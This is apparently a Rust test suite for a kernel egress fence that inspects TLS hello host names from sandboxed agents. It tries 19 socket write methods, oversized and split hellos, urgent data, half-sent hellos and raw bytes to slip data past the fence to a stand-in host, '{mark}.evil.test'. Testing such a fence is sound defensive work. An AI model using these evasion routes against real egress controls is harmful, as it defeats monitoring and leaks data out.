//! However a hello is written, its name is read before any of it leaves.

use super::{CGROUP, Denied, SEALED, denies, gated, permits, servers, stops, works};
use crate::{AGENT, places::OK, program};

#[test]
fn a_denied_name_leaves_by_no_way_to_write_it() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    for (version, way) in ["4", "6"].into_iter().flat_map(|version| WAYS.map(|way| (version, way))) {
        let trick = format!("{{trick}} gate.say {way} {version} ok.test 4430 {{mark}}.evil.test");
        let denied = Denied { trick: &trick, reason: "host-not-allowed", name: "{mark}.evil.test" };
        denies(&agent(&fence, &format!("{way}-{version}")), "kernel", 4430, denied);
    }
}

#[test]
fn an_allowed_name_is_answered_by_every_way_to_write_it() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    for (version, way) in ["4", "6"].into_iter().flat_map(|version| WAYS.map(|way| (version, way))) {
        works(
            &fence.agent(AGENT).with(CGROUP),
            OK,
            &[&format!("{{trick}} gate.say {way} {version} {{host}} 4430 {{host}}")],
        );
    }
}

#[test]
fn a_hello_that_fits_into_no_segment_is_read_whole() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    for (way, size) in SIZES {
        let trick = format!("{{trick}} gate.say_large {way} 4 ok.test 4430 {{mark}}.evil.test {size}");
        let denied = Denied { trick: &trick, reason: "host-not-allowed", name: "{mark}.evil.test" };
        denies(&agent(&fence, &format!("{way}-{size}")), "kernel", 4430, denied);
        for port in [4430, 4433] {
            let allowed = format!("{{trick}} gate.say_large {way} 4 {{host}} {port} {{host}} {size}");
            works(&fence.agent(AGENT).with(CGROUP), OK, &[&allowed]);
        }
    }
    let allowed = "{trick} gate.say_large whole 6 {host} 4433 {host} 14700";
    works(&fence.agent("sealed").with(SEALED), OK, &[allowed]);
    for name in [AGENT, "sealed"] {
        let permits = || Some(permits(&fence.agent(name), name)).filter(|all| !all.is_empty());
        let records = program::poll("the permits", permits);
        assert!(records.iter().all(|record| record["path"] == "kernel"), "{name}: {records:#?}");
    }
}

#[test]
fn writes_that_the_kernel_cannot_join_let_nothing_out() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let tricks = ["turns", "urgent", "urgent_first", "small_buffer"]
        .map(|way| format!("{{trick}} gate.say {way} 4 ok.test 4430 {{mark}}.evil.test"));
    stops(&fence.agent(AGENT).with(CGROUP), &tricks.each_ref().map(String::as_str));
}

#[test]
fn what_is_no_hello_is_denied_at_its_first_octet() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    for trick in [
        "{trick} gate.say_raw 4 ok.test 4430 {mark}",
        "{trick} gate.say_raw 6 ok.test 4430 {mark}",
        "{trick} gate.say_little 4 ok.test 4430 {mark}",
        "{trick} gate.say_little 6 ok.test 4430 {mark}",
    ] {
        let words: Vec<_> = trick.split(' ').collect();
        let name = [words[1].trim_start_matches("gate."), words[2]].join("-");
        denies(&agent(&fence, &name), "kernel", 4430, Denied { trick, reason: "not-tls", name: "" });
    }
}

#[test]
fn half_a_hello_and_an_end_let_nothing_out() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let tricks = ["shut", "reset", "linger"]
        .map(|end| format!("{{trick}} gate.say_half 4 ok.test 4430 {{mark}}.evil.test {end}"));
    let agent = fence.agent(AGENT).with(CGROUP);
    for trick in &tricks {
        let position = fence.lab().sniffer().position();
        let outcome = agent.run(&crate::attack::script(trick, OK, &crate::sniffer::mark()));
        fence.lab().settle();
        assert_eq!(super::said(fence.lab(), position, 4430), "", "`{trick}` leaked with {outcome:#?}");
        super::leaks(fence.lab(), 4430, trick);
    }
}

#[test]
fn a_flow_that_says_nothing_leaves_nothing_behind() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let agent = fence.agent("idle").with(CGROUP);
    works(&agent, OK, &["for i in 1 2 3; do {trick} gate.idle 4 {host} 4430; done"]);
    assert_eq!(agent.denials(), Vec::<serde_json::Value>::new(), "silence is not denied");
}

/// As an agent of its own, so that what is recorded of it is of this trick.
fn agent<'a>(fence: &'a crate::fence::Fence, name: &'a str) -> crate::fence::Agent<'a> {
    fence.agent(name).with(CGROUP)
}

/// The functions of `gate.py` by which a hello is written.
const WAYS: [&str; 19] = [
    "whole",
    "octets",
    "hundreds",
    "vector",
    "write",
    "batch",
    "more",
    "cork",
    "file",
    "splice",
    "gift",
    "zero_copy",
    "not_waiting",
    "thread",
    "child",
    "copy",
    "handing_on",
    "half_close",
    "reader",
];

/// With a key that no quantum computer breaks, twice of that, and what still fits into one record: two segments
/// of Ethernet are what TCP sends in one packet of a flow that it knows nothing of.
const SIZES: [(&str, usize); 12] = [
    ("whole", 1_445),
    ("whole", 2_700),
    ("hundreds", 2_700),
    ("whole", 8_000),
    ("whole", 14_700),
    ("thousands", 14_700),
    ("file", 14_700),
    ("splice", 14_700),
    ("gift", 14_700),
    ("zero_copy", 14_700),
    ("not_waiting", 14_700),
    ("octets", 6_000),
];
